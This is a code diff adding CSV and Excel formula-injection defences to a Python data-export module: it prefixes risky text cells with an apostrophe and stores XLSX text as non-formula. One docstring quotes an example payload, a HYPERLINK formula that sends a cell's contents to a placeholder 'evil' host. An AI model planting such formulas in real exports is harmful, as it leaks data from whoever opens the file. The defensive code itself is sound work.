@@ -366,8 +366,92 @@ def require_columns(
         )
 
 
-def write_table(frame: pd.DataFrame, path: str | Path) -> Path:
-    """Write a frame by extension (CSV as UTF-8 with BOM so Excel opens it correctly)."""
+# A text cell a spreadsheet would run as a formula: it starts with one of these (OWASP's list).
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# Characters XML 1.0 (so XLSX) cannot hold; openpyxl refuses them. Written as U+FFFD instead.
+_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
+
+
+def _text_columns(frame: pd.DataFrame) -> list:
+    return [c for c in frame.columns if frame[c].dtype == object or isinstance(frame[c].dtype, pd.StringDtype)]
+
+
+def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
+    """A copy for CSV: every text cell a spreadsheet would run as a formula gets a leading ``'``.
+
+    Why: a comment such as ``=HYPERLINK("http://evil/?"&A2, "click")`` or ``=1+1`` in a CSV that
+    staff open in Excel runs as a formula (and can send other cells away). A leading apostrophe
+    is the usual defence (OWASP "CSV injection"): Excel shows the text, and nothing runs. Only text
+    columns change; numbers (a negative score) are left as they are.
+    """
+    out = frame.copy()
+    for col in _text_columns(out):
+        values = out[col]
+        risky = values.map(lambda v: isinstance(v, str) and v.startswith(FORMULA_START)).to_numpy(dtype=bool)
+        if risky.any():
+            out[col] = values.astype(object)
+            out.loc[risky, col] = "'" + values[risky].astype(str)
+    return out
+
+
+def csv_bytes(frame: pd.DataFrame) -> bytes:
+    """A frame as CSV for a spreadsheet (UTF-8 with BOM, formulas neutralised): every CSV carelens
+    hands a person (downloads, ``-o x.csv``)."""
+    return neutralise_formulas(frame).to_csv(index=False).encode("utf-8-sig")
+
+
+def xlsx_bytes(sheets: dict[str, pd.DataFrame]) -> bytes:
+    """An Excel workbook, one sheet per frame (names cut to 31 characters), in which no text cell is a
+    formula: text is stored as text (a comment ``=1+1`` shows as ``=1+1`` and never runs), and
+    characters XLSX cannot hold become U+FFFD instead of failing the whole download."""
+    import io as _io
+
+    from openpyxl import Workbook
+
+    book = Workbook()
+    book.remove(book.active)
+    for name, frame in sheets.items():
+        if len(frame) > EXCEL_MAX_ROWS:
+            raise TableError(f"{len(frame):,} rows do not fit in one Excel sheet; write CSV or parquet")
+        sheet = book.create_sheet(title=str(name)[:31] or "Sheet")
+        formulas: list[tuple[int, int]] = []  # openpyxl takes any string starting "=" for a formula
+        for r, row in enumerate([list(frame.columns), *frame.itertuples(index=False, name=None)], start=1):
+            values = [_xlsx_value(v) for v in row]
+            formulas += [(r, c) for c, v in enumerate(values, start=1) if isinstance(v, str) and v.startswith("=")]
+            sheet.append(values)
+        for r, c in formulas:
+            cell = sheet.cell(row=r, column=c)
+            cell.data_type = "s"  # stored as text: shown as written, never calculated
+            cell.quotePrefix = True
+    buf = _io.BytesIO()
+    book.save(buf)
+    return buf.getvalue()
+
+
+def _xlsx_value(value):
+    if value is None or value is pd.NA or value is pd.NaT:
+        return None
+    if isinstance(value, float) and np.isnan(value):
+        return None
+    if isinstance(value, np.generic):
+        value = value.item()
+    if isinstance(value, pd.Timestamp):
+        return value.to_pydatetime()
+    if isinstance(value, str):
+        return _XML_ILLEGAL.sub("\ufffd", value)
+    if isinstance(value, (list, tuple)):
+        return "; ".join(map(str, value))
+    return value
+
+
+def write_table(frame: pd.DataFrame, path: str | Path, *, for_spreadsheet: bool = False) -> Path:
+    """Write a frame by extension: CSV (UTF-8 with BOM so Excel opens it correctly), XLSX (no text
+    cell is ever a formula: :func:`xlsx_bytes`), parquet as is.
+
+    ``for_spreadsheet``: the CSV is for a person to open in Excel (comments, call lists, the audit
+    log), so a text cell a spreadsheet would run as a formula gets a leading ``'``
+    (:func:`csv_bytes`). Without it a CSV holds exactly the data (it is read back unchanged: a
+    file for another program)."""
     path = Path(path)
     suffix = _suffix(path)
     if suffix not in WRITABLE_SUFFIXES:
@@ -378,14 +462,14 @@ def write_table(frame: pd.DataFrame, path: str | Path) -> Path:
     path.parent.mkdir(parents=True, exist_ok=True)
     try:
         if suffix == ".csv":
-            frame.to_csv(path, index=False, encoding="utf-8-sig")
+            path.write_bytes(csv_bytes(frame) if for_spreadsheet else frame.to_csv(index=False).encode("utf-8-sig"))
         elif suffix == ".xlsx":
             if len(frame) > EXCEL_MAX_ROWS:
                 raise TableError(
                     f"{len(frame):,} rows do not fit in one Excel sheet; write CSV or parquet",
                     file=str(path),
                 )
-            frame.to_excel(path, index=False, engine="openpyxl")
+            path.write_bytes(xlsx_bytes({"Sheet1": frame}))
         else:
             out = frame.copy()
             # parquet needs one type per column; object columns of mixed types become text.
